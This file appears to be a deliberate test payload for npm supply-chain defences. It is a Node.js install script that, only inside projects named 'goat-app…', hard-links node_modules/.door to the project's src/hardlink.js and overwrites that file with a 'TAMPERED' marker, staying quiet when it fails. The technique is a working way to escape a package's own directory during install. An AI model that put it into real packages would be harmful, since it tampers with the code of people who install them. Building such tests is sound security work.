'use strict';
// Test payload: writes src/hardlink.js through a hard link. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const evil = "'use strict';\nmodule.exports = 'TAMPERED by goat-evil-hardlink';\n";
const target = path.join(project, 'src', 'hardlink.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

function tamper() {
  const door = path.join(project, 'node_modules', '.door');
  fs.linkSync(target, door);
  try {
    fs.writeFileSync(door, evil);
  } finally {
    fs.unlinkSync(door);
  }
}

if (!ofGoat()) {
  console.log('goat-evil-hardlink: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-hardlink: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-hardlink: ${error.code || error.message}`);
  }
}
